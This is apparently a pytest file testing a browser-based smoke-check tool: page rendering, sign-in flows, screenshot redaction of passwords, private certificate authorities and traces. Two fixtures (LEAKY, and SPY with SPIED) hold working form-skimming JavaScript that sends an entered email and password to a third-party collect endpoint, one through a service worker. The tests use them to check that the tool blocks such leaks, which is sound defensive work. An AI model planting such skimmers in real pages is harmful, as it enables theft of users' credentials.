"""The vantage `browser` on pages of every kind, in one real Chromium."""

from __future__ import annotations

import ssl
from urllib.parse import parse_qs
from zipfile import is_zipfile

import pytest
import trustme
from tests_support.web import Reply, reply, serve

from smokegate.environment.model import Environment
from smokegate.observation.browser.engine import ENGINE
from smokegate.observation.browser.model import MIXED, Person
from smokegate.observation.browser.visit import Visit
from smokegate.observation.evidence.redact import Redactor

PERSON = Person("smoke@example.com", "Sg-secret-7Q!", "Smoke 1")
API = {"url": "http://127.0.0.1:9", "health": {}}
SIGN_IN = {"login": "/session", "account": "/me", "standing": None}
#: The address and password of the page's form go to the application, and behind its back to a third party.
LEAKY = """<h1>Log in</h1><form><label>E-mail <input id=a></label><input type=password id=b><button>Go</button></form>
<script>document.forms[0].onsubmit = async (event) => {
  event.preventDefault();
  const body = JSON.stringify({ email: a.value, password: b.value });
  await fetch("/session", { method: "POST", body });
  await fetch("THIRD/collect", { method: "POST", body, mode: "no-cors" }).catch(() => {});
  document.body.innerHTML = "<p>Signed in as smoke@example.com</p>";
};</script>"""


#: A worker that copies what the page sends to a third party, and the form of a page that has it do so.
SPY = """self.addEventListener("message", (event) => event.waitUntil(
  fetch("THIRD/collect", { method: "POST", body: event.data, mode: "no-cors" }).finally(() =>
    event.ports[0].postMessage("sent"))));"""
SPIED = """document.forms[0].onsubmit = async (event) => {
  event.preventDefault();
  const [email, password] = [...document.forms[0].elements].map((each) => each.value);
  const body = JSON.stringify({ email, password });
  try {
    const hired = await navigator.serviceWorker.register("/spy.js");
    const worker = hired && (await navigator.serviceWorker.ready).active, channel = new MessageChannel();
    const sent = new Promise((done) => { channel.port1.onmessage = done; });
    worker.postMessage(body, [channel.port2]);
    await sent;
  } catch {}
  await fetch("/session", { method: "POST", body });
  document.body.innerHTML = "<p>Signed in as smoke@example.com</p>";
};"""


@pytest.fixture(scope="module")
def web():
    """A server whose pages a test writes."""
    with serve() as server:
        yield server


@pytest.fixture(scope="module")
def third():
    """A third party."""
    with serve() as server:
        yield server


@pytest.fixture(scope="module", autouse=True)
def engine(chromium):  # noqa: ARG001 - says what is missing where there is no browser
    """One browser for all of these tests."""
    leave = ENGINE.use()
    yield
    leave()
    ENGINE.join()


def page(body: str, **headers: str) -> Reply:
    """Return an HTML page."""
    named = tuple((name.replace("_", "-"), text) for name, text in headers.items())
    text = f"<!doctype html><meta charset=utf-8><title>x</title>{body}"
    return Reply(200, text.encode(), (("Content-Type", "text/html"), *named))


def look(web, *pages, person=None, ca_file=None, trace=None, failure="", **sign_in):
    """Check some pages, or sign in."""
    section = {"url": web.url, "timeout": 4.0, "pages": [*pages] or [{"path": "/empty"}], "trace": trace}
    if sign_in:
        section["sign_in"] = sign_in
    table = {"name": "app", "title": "App", "backend": API, "browser": section, "ca_file": ca_file}
    environment = Environment.read({**table, "sign_in": SIGN_IN} if sign_in else table)
    view = Visit(environment, Redactor(), person, lambda *_: None, 90.0).take()
    assert view.absent is None
    assert failure in view.failure if failure else not view.failure
    return view


def test_what_is_to_be_seen_is_seen_and_a_spinner_is_nothing(web):
    """Shadow trees, canvases and late answers count; a spinner and an empty root do not."""
    shadow = "<div id=h></div><script>h.attachShadow({mode: 'open'}).innerHTML = '<b>Ready</b>'</script>"
    late = (
        "<p id=p>…</p><script>fetch('/data').then((r) => r.json()).then((d) => { p.textContent = d.badge; })</script>"
    )
    web.answers |= {
        "/shadow": page(shadow),
        "/canvas": page("<canvas width=300 height=200></canvas>"),
        "/late": page(late),
        "/data": reply({"badge": "HEALTHY"}),
        "/spinner": page("<div class=spinner><svg width=50 height=50></svg>Loading…</div>"),
        "/unhealthy": page("<p>UNHEALTHY</p>"),
    }
    said = {"/shadow": ["Ready"], "/late": ["HEALTHY"], "/unhealthy": ["HEALTHY"]}
    paths = ("/shadow", "/canvas", "/late", "/spinner", "/unhealthy")
    seen = {each.path: each for each in look(web, *({"path": p, "shows": said.get(p, [])} for p in paths)).pages}

    assert {path: each.drawn for path, each in seen.items()} == {p: p != "/spinner" for p in paths}
    assert {path for path, each in seen.items() if each.missing} == {"/unhealthy"}


def test_nothing_of_the_account_goes_to_a_third_party(web, third):
    """A script that sends the form elsewhere, too, is stopped; the application's own call goes through."""
    third.answers["/collect"] = reply({})
    third.asked.clear()
    web.answers |= {
        "/empty": page("<p>x</p>"),
        "/leaky": page(LEAKY.replace("THIRD", third.url)),
        "/session": reply({"ok": True}),
    }
    journey = look(web, person=PERSON, login="/leaky", reload=False).journey

    assert third.asked == []
    assert [(each.name, each.account_shown) for each in journey.steps] == [("log in", True), ("log in again", True)]


def test_no_service_worker_carries_the_account_past_the_guard(web, third):
    """A worker would send what it likes, unseen: none is registered while someone signs in."""
    third.answers["/collect"] = reply({})
    third.asked.clear()
    form = "<form><input name=email><input type=password><button>Go</button></form>"
    web.answers |= {
        "/empty": page("<p>x</p>"),
        "/spied": page(f"<h1>Log in</h1>{form}<script>{SPIED}</script>"),
        "/spy.js": Reply(200, SPY.replace("THIRD", third.url).encode(), (("Content-Type", "text/javascript"),)),
        "/session": reply({"ok": True}),
    }
    journey = look(web, person=PERSON, login="/spied", reload=False).journey

    assert third.asked == []
    assert journey.steps[0].account_shown


def test_server_rendered_form_with_a_cookie_signs_in_and_stays(web):
    """A form that is posted, a redirect and a session cookie: no script is needed."""

    def posted(request):
        fields = parse_qs(request.body.decode())
        good = fields.get("login") == [PERSON.email] and fields.get("pw") == [PERSON.password]
        headers = (("Location", "/home" if good else "/enter"), ("Set-Cookie", "sid=abc; Path=/; HttpOnly"))
        return Reply(303, b"", headers)

    def home(request):
        signed_in = "sid=abc" in (request.headers.get("Cookie") or "")
        return page(f"<p>Hello {PERSON.email}</p><a href=/leave>Sign out</a>" if signed_in else "<p>Who are you?</p>")

    fields = "<input name=login placeholder='User name'><input name=pw type=password>"
    form = f"<form method=post action=/post>{fields}<button>Go</button></form>"
    web.answers |= {
        "/empty": page("<p>x</p>"),
        "/enter": page(form),
        "/post": posted,
        "/home": home,
        "/leave": page("<p>Bye</p>", Set_Cookie="sid=; Max-Age=0; Path=/"),
    }
    view = look(web, person=PERSON, login="/enter")

    assert [each.name for each in view.journey.steps] == ["log in", "log in again", "reload"]
    assert all(each.account_shown for each in view.journey.steps)
    assert all(each.jpeg.startswith(b"\xff\xd8") for each in view.pictures)


def test_pictures_hide_what_is_secret(web, chromium):
    """A password that the page shows, in a field for text too, is covered; every permission is refused."""
    shown = f"<style>body {{ margin: 0 }} * {{ font: 60px monospace }}</style><p>{PERSON.password}</p>"
    script = (
        "<p id=p style='color: #ddd'></p><script>navigator.permissions.query({ name: 'geolocation' })"
        ".then((it) => { p.textContent = `it is ${it.state}`; })</script>"
    )
    web.answers["/open"] = page(f"{shown}<input value='{PERSON.password}'>{script}")
    view = look(web, {"path": "/open", "shows": ["it is denied"]}, person=PERSON)

    assert view.pages[0].missing == ()
    colours = """async (bytes) => {
      const picture = await createImageBitmap(new Blob([new Uint8Array(bytes)]));
      const context = new OffscreenCanvas(1280, 800).getContext("2d");
      context.drawImage(picture, 0, 0);
      const dark = (y) => {
        const line = context.getImageData(0, y, 700, 1).data;
        return line.some((value, index) => index % 4 === 0 && value < 60);
      };
      return [...Array(800).keys()].filter(dark);
    }"""
    with chromium.new_context() as context:
        dark = context.new_page().evaluate(colours, [*view.pictures[0].jpeg])
    assert dark == []


def test_page_of_a_private_authority_is_seen_and_given_no_password(tmp_path):
    """The browser cannot verify it: with `ca_file` it opens the page, as the HTTP checks verify, and types nothing."""
    authority = trustme.CA()
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    authority.issue_cert("127.0.0.1").configure_cert(context)
    file = tmp_path / "authority.pem"
    authority.cert_pem.write_to_path(file)
    with serve(context) as private:
        mixed = "<p>Hello</p><script>fetch('http://api.invalid/items').catch(() => {})</script>"
        private.answers |= {"/": page(mixed), "/enter": page("<form><input type=password></form>")}
        view = look(private, {"path": "/"}, person=PERSON, ca_file=str(file), login="/enter")

    assert [(each.problem, each.drawn) for each in view.pages] == [("", True)]
    assert [each.text[:13] for each in view.pages[0].console if "items" in each.text] == ["Mixed Content"]
    assert [each.error for each in view.pages[0].calls if "items" in each.url] == [MIXED]
    assert view.journey is None
    assert ("GET", "/enter") not in private.asked


def test_a_trace_is_kept_also_of_a_look_that_fails(web, tmp_path):
    """It is wanted most then; a selector that is none ends the look here."""
    web.answers["/empty"] = page("<p>x</p>")
    trace = tmp_path / "trace.zip"
    look(web, {"path": "/empty", "shows": [{"selector": "]["}]}, trace=str(trace), failure="][")
    assert is_zipfile(trace)
